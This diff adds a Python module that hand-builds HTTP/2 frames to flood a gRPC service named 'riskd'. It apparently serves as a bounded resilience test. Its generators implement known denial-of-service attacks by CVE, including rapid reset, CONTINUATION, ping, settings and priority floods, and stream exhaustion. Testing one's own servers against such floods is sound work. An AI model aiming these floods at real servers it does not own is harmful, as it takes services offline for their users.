@@ -1,0 +1,158 @@
+"""HTTP/2 as somebody speaks it who means harm: frames by hand (RFC 9113), within bounds of count and time."""
+
+from __future__ import annotations
+
+import socket
+import struct
+import time
+from collections.abc import Callable, Iterator
+from contextlib import suppress
+from itertools import count
+from typing import Final
+
+PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
+END_STREAM, END_HEADERS = 1, 4
+PATH: Final = b"/riskd.v1.RiskService/Assess"
+BATCH: Final = 64
+"""Frames a write."""
+SECONDS: Final = 4.0
+"""Longest that one flood lasts."""
+
+
+def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
+    """One frame: length, type, flags, stream, payload."""
+    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload
+
+
+def literal(name: bytes, value: bytes) -> bytes:
+    """A header field, neither indexed nor packed (RFC 7541, 6.2.2), both below 127 bytes."""
+    return b"\0" + bytes((len(name),)) + name + bytes((len(value),)) + value
+
+
+CALL: Final = b"".join(
+    literal(name, value)
+    for name, value in (
+        (b":method", b"POST"),
+        (b":scheme", b"http"),
+        (b":path", PATH),
+        (b":authority", b"riskd"),
+        (b"te", b"trailers"),
+        (b"content-type", b"application/grpc"),
+    )
+)
+
+
+class Peer:
+    """A connection that has said hello and reads nothing unless told to."""
+
+    def __init__(self, address: str, settings: bytes = b"") -> None:
+        host, _, port = address.rpartition(":")
+        self.socket = socket.create_connection((host, int(port)), timeout=5)
+        self.socket.settimeout(0.5)
+        self.sent = 0
+        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
+
+    def flood(self, frames: Iterator[bytes], most: int, *, reads: bool) -> None:
+        """Send up to so many, until the server has enough or does not read any more."""
+        deadline = time.monotonic() + SECONDS
+        with suppress(OSError):
+            while self.sent < most and time.monotonic() < deadline:
+                self.socket.sendall(b"".join(next(frames) for _ in range(BATCH)))
+                self.sent += BATCH
+                if reads:
+                    self._drain()
+
+    def _drain(self) -> None:
+        self.socket.setblocking(False)
+        with suppress(BlockingIOError):
+            while self.socket.recv(1 << 16):
+                pass
+        self.socket.settimeout(0.5)
+
+    def close(self) -> None:
+        """Let go."""
+        self.socket.close()
+
+
+def calls(message: bytes, flags: int = END_STREAM) -> Iterator[bytes]:
+    """A whole call on a stream of its own."""
+    for stream in count(1, 2):
+        yield frame(HEADERS, END_HEADERS, stream, CALL) + frame(DATA, flags, stream, _message(message))
+
+
+def rapid_resets() -> Iterator[bytes]:
+    """Begun and taken back (CVE-2023-44487)."""
+    for stream in count(1, 2):
+        yield frame(HEADERS, END_HEADERS, stream, CALL) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
+
+
+def provoked_resets() -> Iterator[bytes]:
+    """Begun, and then something that makes the server take it back (CVE-2025-8671)."""
+    for stream in count(1, 2):
+        yield frame(HEADERS, END_HEADERS, stream, CALL) + frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))
+
+
+def pings() -> Iterator[bytes]:
+    """Each wants an answer (CVE-2019-9512)."""
+    for number in count():
+        yield frame(PING, 0, 0, struct.pack(">Q", number))
+
+
+def settings() -> Iterator[bytes]:
+    """Each wants an answer (CVE-2019-9515)."""
+    for number in count():
+        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535 + number % 2))
+
+
+def priorities() -> Iterator[bytes]:
+    """They change the order of streams that are not there (CVE-2019-9513)."""
+    for stream in count(1, 2):
+        yield frame(PRIORITY, 0, stream % (1 << 30), struct.pack(">IB", 0, stream % 256))
+
+
+def continuations() -> Iterator[bytes]:
+    """Headers that do not end (CVE-2024-27316)."""
+    yield frame(HEADERS, 0, 1, CALL)
+    for number in count():
+        yield frame(CONTINUATION, 0, 1, literal(b"x-%d" % number, b"y" * 100) * 100)
+
+
+def empty_frames() -> Iterator[bytes]:
+    """Data of which there is none (CVE-2019-9518)."""
+    yield frame(HEADERS, END_HEADERS, 1, CALL)
+    while True:
+        yield frame(DATA, 0, 1)
+
+
+def a_gibibyte() -> Iterator[bytes]:
+    """One message, of which the first bytes say that it is so large."""
+    yield frame(HEADERS, END_HEADERS, 1, CALL)
+    yield frame(DATA, 0, 1, b"\0" + struct.pack(">I", 1 << 30))
+    while True:
+        yield frame(DATA, 0, 1, bytes(16_384))
+
+
+def many_streams() -> Iterator[bytes]:
+    """Calls that are begun and never go on."""
+    for stream in count(1, 2):
+        yield frame(HEADERS, END_HEADERS, stream, CALL)
+
+
+FLOODS: Final[dict[str, tuple[Callable[[], Iterator[bytes]], int]]] = {
+    "rapid resets": (rapid_resets, 40_000),
+    "provoked resets": (provoked_resets, 40_000),
+    "pings": (pings, 100_000),
+    "settings": (settings, 100_000),
+    "priorities": (priorities, 100_000),
+    "continuations": (continuations, 20_000),
+    "empty frames": (empty_frames, 200_000),
+    "a message of a gibibyte": (a_gibibyte, 65_600),
+    "many streams": (many_streams, 40_000),
+}
+"""What is sent, and how often at most."""
+
+
+def _message(content: bytes) -> bytes:
+    """Length-prefixed, as gRPC has it."""
+    return b"\0" + struct.pack(">I", len(content)) + content
